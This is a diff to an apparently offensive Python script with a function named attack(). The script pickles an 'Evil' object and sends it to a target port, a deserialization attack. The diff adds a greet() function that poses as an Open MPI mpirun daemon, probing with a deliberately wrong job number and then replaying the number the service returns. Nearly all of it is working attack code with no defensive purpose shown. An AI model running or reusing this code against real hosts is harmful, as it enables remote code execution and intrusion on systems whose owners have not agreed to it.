@@ -48,7 +48,7 @@ def attack(place: str) -> list[str]:
     port, data = int(number), pickle.dumps(Evil())
     if "HTTP" not in request(host, port, "GET /global/0")[0]:
         speak(host, port, data)
-        return []
+        return [f"{place}: answered as Open MPI: {answer!r}" for answer in greet(host, port)]
     got = []
     for scope in SCOPES:
         for key in KEYS:
@@ -79,6 +79,27 @@ def speak(host: str, port: int, data: bytes) -> None:
                 connection.recv(100)
         except OSError:
             pass
+
+
+def greet(host: str, port: int) -> list[bytes]:
+    """Greet a port of Open MPI as a daemon of mpirun does. Return its answers.
+
+    The first greeting has a wrong job number. The answer to it begins with the right number, which the second has.
+    """
+    answers = []
+    job = 0x12340000
+    for _ in range(2):
+        head = struct.pack("=IIII", job, 7, job, 0) + struct.pack(">III", 0, 0, 8) + bytes([1]) + bytes(35)
+        try:
+            with socket.create_connection((host, port), timeout=2) as connection:
+                connection.sendall(head + bytes([0, 1]) + b"4.0.0" + bytes(1))
+                answer = connection.recv(100)
+        except OSError:
+            continue
+        if answer:
+            answers.append(answer)
+            job = struct.unpack("=I", answer[:4].ljust(4, b"."))[0]
+    return answers
 
 
 def shown() -> bytes:
